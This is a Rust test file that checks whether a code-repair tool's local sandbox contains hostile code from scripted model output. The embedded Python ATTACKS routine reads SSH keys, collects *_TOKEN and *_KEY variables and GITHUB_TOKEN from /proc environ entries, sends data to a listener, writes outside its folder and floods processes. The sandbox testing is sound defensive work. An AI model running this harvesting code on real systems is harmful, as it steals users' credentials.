//! The local sandbox's confinement, attacked for real: a hostile reproduction script and a
//! hostile candidate (code that runs under the project's tests) try to reach a listener on
//! 127.0.0.1, write into the user's work tree, HOME and /tmp, read a fake `~/.ssh` key and
//! `GITHUB_TOKEN` (from the environment and from other processes' /proc entries), and start
//! processes without bound. Each mechanism is tested: bubblewrap where installed, and the
//! namespaces + Landlock path with bubblewrap hidden (`SWISS_SANDBOX_NO_BWRAP=1`). CI sets
//! `SWISS_REQUIRE_CONFINEMENT=1`, so there a mechanism that cannot run fails the test instead
//! of skipping it.

use std::io::Read;
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::Duration;

use serde_json::Value;
use swiss::sandbox::confine::{self, Mechanism};
use swiss::sandbox::local::{LocalLimits, LocalSandbox};
use swiss::sandbox::{RunSpec, Sandbox};
use swiss_testkit::calc;
use swiss_testkit::{PromptKind, Script, ScriptedBackend};
use tokio_util::sync::CancellationToken;

use crate::cli_support::{stderr, stdout_json, swiss_fix, write_issue};

/// More than the sandbox's process limit (set to `PIDS_LIMIT` for these jobs).
const SPAWN_ATTEMPTS: usize = 200;
const PIDS_LIMIT: usize = 64;

/// Python that tries every attack and lists in `escaped` the ones that worked. Placeholders:
/// PORT, WORK, HOME, NAME (the file it tries to leave behind), SPAWN.
const ATTACKS: &str = r#"
def _attacks():
    import os, socket, subprocess
    escaped = []
    try:
        socket.create_connection(("127.0.0.1", @PORT@), timeout=3).sendall(b"leak")
        escaped.append("network")
    except OSError:
        pass
    for folder in ("@WORK@", "@HOME@", "/tmp"):
        try:
            with open(os.path.join(folder, "@NAME@"), "w") as out:
                out.write("escaped")
            escaped.append("write " + folder)
        except OSError:
            pass
    try:
        with open(os.path.join("@HOME@", ".ssh", "id_ed25519")) as key:
            escaped.append("ssh key " + key.read())
    except OSError:
        pass
    for name, value in os.environ.items():
        if name.endswith("_TOKEN") or name.endswith("_KEY"):
            escaped.append("environment " + value)
    for pid in os.listdir("/proc"):
        try:
            with open("/proc/" + pid + "/environ", "rb") as environ:
                for entry in environ.read().split(b"\0"):
                    if entry.startswith(b"GITHUB_TOKEN="):
                        escaped.append("environ of " + pid + " " + entry.decode())
        except OSError:
            pass
    children = []
    try:
        for _ in range(@SPAWN@):
            children.append(subprocess.Popen(["sleep", "30"]))
        escaped.append("processes")
    except OSError:
        pass
    for child in children:
        child.kill()
        child.wait()
    return escaped
"#;

fn attacks(port: u16, work: &Path, home: &Path, name: &str, spawn: usize) -> String {
    ATTACKS
        .replace("@PORT@", &port.to_string())
        .replace("@WORK@", &work.display().to_string())
        .replace("@HOME@", &home.display().to_string())
        .replace("@NAME@", name)
        .replace("@SPAWN@", &spawn.to_string())
}

/// A reproduction script that reproduces the issue only when every attack failed and the
/// venv in HOME ran it: being chosen proves both.
fn hostile_script(port: u16, work: &Path, home: &Path) -> String {
    format!(
        "```python\n{}\nescaped = _attacks()\nimport os\nfrom calc.ops import divide\nif escaped or os.environ.get(\"SWISS_TEST_VENV\") != \"yes\":\n    print(\"Other issues\")\n    print(\"ESCAPED:\", escaped)\nelif divide(7, 2) == 3:\n    print(\"Issue reproduced\")\nelse:\n    print(\"Issue resolved\")\n```\n",
        attacks(port, work, home, "pwned-by-script", SPAWN_ATTEMPTS)
    )
}

/// A candidate that fixes nothing and attacks whenever `calc.ops` is imported: by the tests,
/// and by the reproduction script run with it applied. It is the majority.
fn hostile_candidate(port: u16, work: &Path, home: &Path) -> String {
    let code = attacks(port, work, home, "pwned-by-candidate", SPAWN_ATTEMPTS);
    let code = code.trim_start();
    format!(
        "```python\n### calc/ops.py\n<<<<<<< SEARCH\ndef add(a, b):\n=======\n{code}\n\nprint(\"ESCAPED:\", _attacks())\n\n\ndef add(a, b):\n>>>>>>> REPLACE\n```\n"
    )
}

/// Counts the connections a listener on 127.0.0.1 accepts, and what they sent.
struct Listener {
    port: u16,
    accepted: Arc<AtomicUsize>,
}

impl Listener {
    fn start() -> Listener {
        let socket = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = socket.local_addr().unwrap().port();
        let accepted = Arc::new(AtomicUsize::new(0));
        let count = Arc::clone(&accepted);
        std::thread::spawn(move || {
            for stream in socket.incoming().flatten() {
                count.fetch_add(1, Ordering::SeqCst);
                let mut stream = stream;
                let _ = stream.set_read_timeout(Some(Duration::from_secs(1)));
                let _ = stream.read(&mut [0u8; 64]);
            }
        });
        Listener { port, accepted }
    }

    fn accepted(&self) -> usize {
        self.accepted.load(Ordering::SeqCst)
    }
}

/// A user's HOME with an SSH key and a venv whose interpreter marks the scripts it runs.
struct FakeHome {
    dir: tempfile::TempDir,
    key: String,
}

impl FakeHome {
    fn new(nonce: &str) -> FakeHome {
        use std::os::unix::fs::PermissionsExt;
        let dir = tempfile::tempdir().unwrap();
        let key = format!("SSH-SECRET-{nonce}");
        std::fs::create_dir_all(dir.path().join(".ssh")).unwrap();
        std::fs::write(dir.path().join(".ssh/id_ed25519"), &key).unwrap();
        let python = dir.path().join("venv/bin/python");
        std::fs::create_dir_all(python.parent().unwrap()).unwrap();
        std::fs::write(
            &python,
            "#!/bin/sh\nexport SWISS_TEST_VENV=yes\nexec python3 \"$@\"\n",
        )
        .unwrap();
        std::fs::set_permissions(&python, std::fs::Permissions::from_mode(0o755)).unwrap();
        FakeHome { dir, key }
    }

    fn path(&self) -> PathBuf {
        std::fs::canonicalize(self.dir.path()).unwrap()
    }

    fn python(&self) -> PathBuf {
        self.path().join("venv/bin/python")
    }
}

fn nonce() -> String {
    let nanos = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_nanos();
    format!("{}-{nanos}", std::process::id())
}

/// Every file named like an attack's under `dirs` (not recursing into the repository's copy).
fn left_behind(dirs: &[&Path]) -> Vec<PathBuf> {
    dirs.iter()
        .filter_map(|dir| std::fs::read_dir(dir).ok())
        .flat_map(|entries| entries.flatten().map(|e| e.path()))
        .filter(|path| {
            path.file_name()
                .is_some_and(|n| n.to_string_lossy().starts_with("pwned-by-"))
        })
        .collect()
}

/// Whether the mechanism a job with `no_bwrap` would use is here; with
/// SWISS_REQUIRE_CONFINEMENT=1 a missing one fails instead.
fn mechanism_available(no_bwrap: bool) -> Option<&'static str> {
    if !no_bwrap && std::env::var("SWISS_SANDBOX_NO_BWRAP").is_ok_and(|v| v == "1") {
        skip("bubblewrap is hidden from this run (SWISS_SANDBOX_NO_BWRAP=1)");
        return None;
    }
    let output = std::process::Command::new(env!("CARGO_BIN_EXE_swiss"))
        .args(["doctor", "--json"])
        .env("SWISS_BACKEND_URL", "http://127.0.0.1:9/v1")
        .env("DOCKER_HOST", "unix:///nonexistent/docker.sock")
        .envs(no_bwrap.then_some(("SWISS_SANDBOX_NO_BWRAP", "1")))
        .output()
        .unwrap();
    let report: Value = serde_json::from_slice(&output.stdout)
        .unwrap_or_else(|e| panic!("swiss doctor --json is not JSON ({e}): {}", stderr(&output)));
    let found = report["confinement"]["mechanism"]
        .as_str()
        .unwrap()
        .to_owned();
    let expected = if no_bwrap {
        "namespaces+landlock"
    } else {
        "bubblewrap"
    };
    if found == expected {
        return Some(expected);
    }
    assert!(
        !crate::required::required("SWISS_REQUIRE_CONFINEMENT"),
        "SWISS_REQUIRE_CONFINEMENT=1 but {expected} is not available here: {report:#}"
    );
    skip(&format!(
        "{expected} is not available here ({})",
        report["confinement"]["note"]
    ));
    None
}

fn skip(why: &str) {
    crate::required::say_skipped("SWISS_REQUIRE_CONFINEMENT", "this test", &why);
}

fn hostile_job_is_contained(no_bwrap: bool) {
    let Some(mechanism) = mechanism_available(no_bwrap) else {
        return;
    };
    let nonce = nonce();
    let token = format!("GITHUB-TOKEN-SECRET-{nonce}");
    let home = FakeHome::new(&nonce);
    let listener = Listener::start();
    let repo = calc::repo();
    let work = std::fs::canonicalize(repo.path()).unwrap();
    repo.write(
        "swiss.toml",
        &format!(
            "[test]\npython = \"{}\"\n\n[sandbox]\npids_limit = {PIDS_LIMIT}\n",
            home.python().display()
        ),
    );
    let before = repo.contents();

    // The same attacks, run as the user without a sandbox, do get through: the checks below
    // can fail.
    let unconfined = std::process::Command::new("python3")
        .arg("-c")
        .arg(format!(
            "{}\nprint(_attacks())",
            attacks(listener.port, &work, &home.path(), "pwned-by-unconfined", 3)
        ))
        .env("HOME", home.path())
        .env("GITHUB_TOKEN", &token)
        .output()
        .unwrap();
    let said = String::from_utf8_lossy(&unconfined.stdout);
    for attack in ["network", "write ", "ssh key", "environment"] {
        assert!(
            said.contains(attack),
            "unconfined, {attack:?} should work: {said}"
        );
    }
    for leftover in left_behind(&[&work, &home.path(), Path::new("/tmp")]) {
        std::fs::remove_file(leftover).unwrap();
    }
    let listened_unconfined = listener.accepted();
    assert_eq!(listened_unconfined, 1);

    let backend = ScriptedBackend::start_in_background(
        Script::new()
            .answer(PromptKind::Localize, [calc::LOCALIZE_ANSWER])
            .answer(
                PromptKind::Repair,
                [
                    hostile_candidate(listener.port, &work, &home.path()),
                    calc::FIX_A.to_owned(),
                    hostile_candidate(listener.port, &work, &home.path()),
                ],
            )
            .answer(
                PromptKind::Reproduce,
                [hostile_script(listener.port, &work, &home.path())],
            ),
    );
    let issues = tempfile::tempdir().unwrap();
    let issue = write_issue(issues.path(), calc::ISSUE);
    let record = issues.path().join("record.json");
    let url = backend.base_url();
    let output = swiss_fix(
        &work,
        &[
            "--issue",
            &issue,
            "--backend-url",
            &url,
            "--samples",
            "3",
            "--sandbox",
            "local",
            "--json",
            "--record",
            record.to_str().unwrap(),
        ],
    )
    .env("HOME", home.path())
    .env("GITHUB_TOKEN", &token)
    .envs(no_bwrap.then_some(("SWISS_SANDBOX_NO_BWRAP", "1")))
    .output()
    .unwrap();
    let err = stderr(&output);
    let json = stdout_json(&output);
    assert_eq!(output.status.code(), Some(0), "{err}");

    let verification = &json["verification"];
    assert_eq!(
        verification["confinement"]["mechanism"], mechanism,
        "{verification:#}"
    );
    assert_eq!(verification["confinement"]["network"], false);
    assert!(
        err.contains(&format!("confined by {mechanism}: no network")),
        "{err}"
    );
    assert_eq!(
        verification["reproduction"]["chosen_index"], 0,
        "the hostile script reproduces only when every attack failed and HOME's venv ran it: {verification:#}"
    );
    let candidates = json["candidates"].as_array().unwrap();
    let winner = candidates.iter().find(|c| c["selected"] == true).unwrap();
    assert!(
        winner["patch"]
            .as_str()
            .unwrap()
            .contains("+    return a / b\n"),
        "{json:#}"
    );
    let hostile = candidates
        .iter()
        .find(|c| c["patch"].as_str().unwrap().contains("_attacks"))
        .unwrap();
    assert_eq!(hostile["votes"], 2);
    assert_eq!(hostile["reproduced"], true, "it ran, and fixed nothing");
    assert_eq!(
        verification["candidates"][hostile["id"].to_string()]["regression_failures"],
        0,
        "its tests ran to the end, attacks and all: {verification:#}"
    );

    assert_eq!(
        listener.accepted(),
        listened_unconfined,
        "a sandboxed run reached the listener"
    );
    assert_eq!(
        left_behind(&[&work, &home.path(), Path::new("/tmp")]),
        Vec::<PathBuf>::new()
    );
    assert_eq!(repo.contents(), before, "the work tree is unchanged");
    let saved = std::fs::read_to_string(&record).unwrap();
    let stdout = String::from_utf8_lossy(&output.stdout);
    for secret in [&token, &home.key] {
        for (name, text) in [("stdout", &*stdout), ("stderr", &*err), ("record", &*saved)] {
            assert!(
                !text.contains(secret.as_str()),
                "{secret} leaked into {name}"
            );
        }
    }
}

#[test]
fn hostile_code_is_contained_by_bubblewrap() {
    hostile_job_is_contained(false);
}

#[test]
fn hostile_code_is_contained_by_namespaces_and_landlock() {
    hostile_job_is_contained(true);
}

/// Whether this process can confine (in-process tests use its mechanism, whichever it is).
fn confinement_here() -> bool {
    if let Mechanism::Unavailable { why } = confine::available() {
        let required = crate::required::required("SWISS_REQUIRE_CONFINEMENT");
        assert!(!required, "no confinement here: {why}");
        skip(&format!("no confinement here: {why}"));
        return false;
    }
    true
}

async fn confined(limits: confine::Limits) -> LocalSandbox {
    LocalSandbox::prepare(
        vec![swiss::sandbox::BaseFile {
            path: "a.txt".to_owned(),
            bytes: Arc::from(&b"base\n"[..]),
            executable: false,
        }],
        LocalLimits {
            confine: confine::ConfineSettings {
                limits,
                ..confine::ConfineSettings::default()
            },
            ..LocalLimits::default()
        },
    )
    .await
    .unwrap()
}

async fn run_quick(sandbox: &LocalSandbox, command: &str) -> swiss::sandbox::RunOutput {
    sandbox
        .run(
            RunSpec {
                command: command.to_owned(),
                timeout: Duration::from_secs(60),
                ..RunSpec::default()
            },
            CancellationToken::new(),
        )
        .await
        .unwrap()
}

/// In-process: what a run sees of its own confinement, whichever mechanism this process has.
#[tokio::test]
async fn a_run_writes_only_its_copy_and_its_tmpdir() {
    if !confinement_here() {
        return;
    }
    let sandbox = confined(confine::Limits::default()).await;
    let report = sandbox.confinement().unwrap();
    assert_eq!(report.mechanism, confine::available().name());
    let outside = tempfile::tempdir().unwrap();
    let script = format!(
        "echo changed > a.txt && cat a.txt && echo tmp > \"$TMPDIR/t\" && cat \"$TMPDIR/t\" && echo shm > /dev/shm/s && cat /dev/shm/s && echo ok > /dev/null && \
         case \"$TMPDIR\" in /tmp/swiss-tmp-*) echo private;; esac; \
         if echo x > {}/escape 2>/dev/null; then echo ESCAPED; fi",
        outside.path().display()
    );
    let out = run_quick(&sandbox, &script).await;
    assert_eq!(out.stdout, "changed\ntmp\nshm\nprivate\n", "{out:?}");
    assert!(!outside.path().join("escape").exists());

    // Loopback works inside (a test may serve on it); the host's listener is out of reach.
    let listener = Listener::start();
    let network = format!(
        "import socket\nserver = socket.create_server((\"127.0.0.1\", 0))\nsocket.create_connection(server.getsockname()).close()\nprint(\"loopback\")\ntry:\n    socket.create_connection((\"127.0.0.1\", {}), timeout=3)\n    print(\"REACHED THE HOST\")\nexcept OSError:\n    print(\"host unreachable\")\n",
        listener.port
    );
    std::fs::write(outside.path().join("net.py"), network).unwrap();
    let out = run_quick(
        &sandbox,
        &format!("python3 {}", outside.path().join("net.py").display()),
    )
    .await;
    assert_eq!(out.stdout, "loopback\nhost unreachable\n", "{out:?}");
    assert_eq!(listener.accepted(), 0);
    sandbox.cleanup().await;
}

/// Memory, processes and file size are capped as set (CPU time is capped at the timeout's
/// worth, which the timeout reaches first).
#[tokio::test]
async fn limits_bind() {
    if !confinement_here() {
        return;
    }
    let sandbox = confined(confine::Limits {
        memory_bytes: 256 * 1024 * 1024,
        processes: 16,
        cpus: 1.0,
        file_size_bytes: 1024 * 1024,
    })
    .await;
    let out = run_quick(
        &sandbox,
        "head -c 2000000 /dev/zero > big; echo \"write $?\"; wc -c < big",
    )
    .await;
    assert!(out.stdout.starts_with("write 1"), "{out:?}");
    assert!(out.stdout.ends_with("1048576\n"), "{out:?}");

    let out = run_quick(
        &sandbox,
        "python3 -c 'b = bytearray(512 * 1024 * 1024)' 2>&1 | tail -1",
    )
    .await;
    assert_eq!(out.stdout, "MemoryError\n", "{out:?}");

    let out = run_quick(
        &sandbox,
        "python3 -c 'import subprocess\nstarted = []\ntry:\n    for _ in range(40):\n        started.append(subprocess.Popen([\"sleep\", \"5\"]))\nexcept OSError:\n    pass\nprint(len(started), \"started\")\nfor p in started:\n    p.kill()'",
    )
    .await;
    let started: usize = out
        .stdout
        .split_whitespace()
        .next()
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("{out:?}"));
    assert!(
        started < 16,
        "{started} processes started under a limit of 16: {out:?}"
    );
    sandbox.cleanup().await;
}

/// Toolchains outside Python run confined: `go test` builds (its build cache is the run's own,
/// since HOME is read-only) and `node` runs a script, both found from PATH with the allow-listed
/// environment. The user's GOCACHE is not passed: pointing Go at a read-only cache would fail.
#[tokio::test]
async fn go_and_node_run_confined() {
    if !confinement_here()
        || !crate::toolchains::available(
            "go",
            "install Go (Debian's golang-go)",
            "go_and_node_run_confined",
        )
        || !crate::toolchains::available(
            "node",
            "install Node.js (Debian's nodejs)",
            "go_and_node_run_confined",
        )
    {
        return;
    }
    let files = [
        ("go.mod", "module example.com/confined\n\ngo 1.19\n"),
        ("calc/calc.go", "package calc\n\nfunc Add(a, b int) int { return a + b }\n"),
        (
            "calc/calc_test.go",
            "package calc\n\nimport \"testing\"\n\nfunc TestAdd(t *testing.T) {\n\tif Add(2, 3) != 5 {\n\t\tt.Fatal(\"Add(2, 3) != 5\")\n\t}\n}\n",
        ),
        ("check.js", "const os = require('os');\nconsole.log('node ' + process.versions.node.split('.')[0] + ' ' + (os.tmpdir() === process.env.TMPDIR));\n"),
    ];
    let base = files
        .iter()
        .map(|(path, text)| swiss::sandbox::BaseFile {
            path: (*path).to_owned(),
            bytes: Arc::from(text.as_bytes()),
            executable: false,
        })
        .collect();
    let sandbox = LocalSandbox::prepare(base, LocalLimits::default())
        .await
        .unwrap();
    let run = |command: &str| {
        sandbox.run(
            RunSpec {
                command: command.to_owned(),
                timeout: Duration::from_secs(300),
                ..RunSpec::default()
            },
            CancellationToken::new(),
        )
    };
    let go = run("go env GOCACHE && go test -json ./...").await.unwrap();
    assert_eq!(go.exit_code, Some(0), "{go:?}");
    let cache = go.stdout.lines().next().unwrap();
    assert!(
        cache.contains("swiss-tmp-") && cache.ends_with("/.cache/go-build"),
        "the build cache is the run's own: {cache}"
    );
    assert!(
        go.stdout
            .contains(r#""Action":"pass","Package":"example.com/confined/calc","Test":"TestAdd""#),
        "{go:?}"
    );
    let node = run("node check.js").await.unwrap();
    assert_eq!(node.exit_code, Some(0), "{node:?}");
    assert!(
        node.stdout.starts_with("node ") && node.stdout.ends_with(" true\n"),
        "{node:?}"
    );
    sandbox.cleanup().await;
}
